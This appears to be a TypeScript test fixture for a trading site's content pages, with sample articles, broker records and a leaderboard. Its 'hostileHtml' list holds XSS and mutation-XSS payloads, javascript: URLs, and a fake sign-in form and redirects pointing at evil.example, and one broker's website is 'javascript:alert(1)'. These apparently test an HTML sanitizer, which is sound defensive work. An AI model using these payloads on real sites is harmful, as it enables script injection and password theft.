import { decimal } from '#domain/decimal.ts';
import type { Article, Company, RankingEntry } from '#protocol/content.ts';

export const article: Article = {
  id: '1',
  title: 'Gold: what moves it, and when it is quiet',
  summary: 'Real yields, the dollar and the hour of the day explain most of what gold does.',
  logo: '',
  createdAt: '2026-11-18T08:30:00Z',
  content:
    '<p>Gold pays no interest. When the <strong>real yield</strong> of safe bonds rises, holding gold costs more.</p>' +
    '<h3>Two things to look at</h3><ul><li>Real yields</li><li>The <a href="https://example.test/dollar">dollar</a></li></ul>' +
    '<table><thead><tr><th>Hour</th><th>Turnover</th></tr></thead><tbody><tr><td>12:00</td><td>high</td></tr></tbody></table>',
};

export const articles: Article[] = [
  article,
  { ...article, id: '2', title: 'How a margin is calculated, with figures' },
  { ...article, id: '3', title: 'A title without a summary', summary: '' },
];

/** What an API that was broken into might send for an article. */
export const hostileHtml = [
  '<p style="position:fixed;inset:0;background:url(https://evil.example/css)" class="x" id="root">Text that stays</p>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<script>window.wasHit = "script"</script>',
  '<img src="https://evil.example/x" onerror="window.wasHit = \'onerror\'"><img src="https://evil.example/pixel.png" alt="pixel">',
  '<svg onload="window.wasHit = \'svg\'"><script>window.wasHit = "svg script"</script></svg>',
  '<a href="javascript:window.wasHit = 1">javascript</a><a href=" java\nscript:window.wasHit = 1">split</a>',
  '<a href="data:text/html,<script>window.wasHit = 1</script>">data</a><a href="vbscript:x">vbscript</a>',
  '<a href="https://example.test/" onclick="window.wasHit = 1" target="_top">link</a>',
  '<a href="mailto:support@example.test">mail</a>',
  '<form action="https://evil.example/"><input name="password"><button>Sign in again</button></form>',
  '<iframe srcdoc="<script>parent.wasHit = 1</script>"></iframe><object data="x"></object><embed src="x">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<details open ontoggle="window.wasHit = 1"><summary>more</summary></details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.wasHit=1&gt;">',
].join('\n');

export const companies: Company[] = [
  {
    id: '1',
    name: 'Harbour Markets',
    mainCompany: 'Harbour Group',
    logo: '',
    website: 'https://harbour.example',
    registeredAddress: '1 Sample Quay, Level 12',
    office: 'London',
    email: 'contact@harbour.example',
  },
  {
    id: '2',
    name: 'Meridian Bay Securities',
    mainCompany: '',
    logo: '',
    website: 'javascript:alert(1)',
    registeredAddress: '',
    office: 'Hong Kong',
    email: '',
  },
];

export const ranking: RankingEntry[] = [
  {
    id: '1',
    user: 'Ma***ra',
    multiple: decimal(3),
    threeWeekRate: decimal('38.42'),
    threeWeekWinRate: decimal('71.4'),
    threeWeekProfit: decimal('18420.55'),
    totalRate: decimal('214.8'),
    trades: 1642,
    code: 'ORION',
  },
  {
    id: '2',
    user: 'li***92',
    multiple: decimal(2),
    threeWeekRate: decimal('-3.1'),
    threeWeekWinRate: decimal('48.9'),
    threeWeekProfit: decimal('-904.1'),
    totalRate: decimal('87.3'),
    trades: 518,
    code: 'VEGA',
  },
];
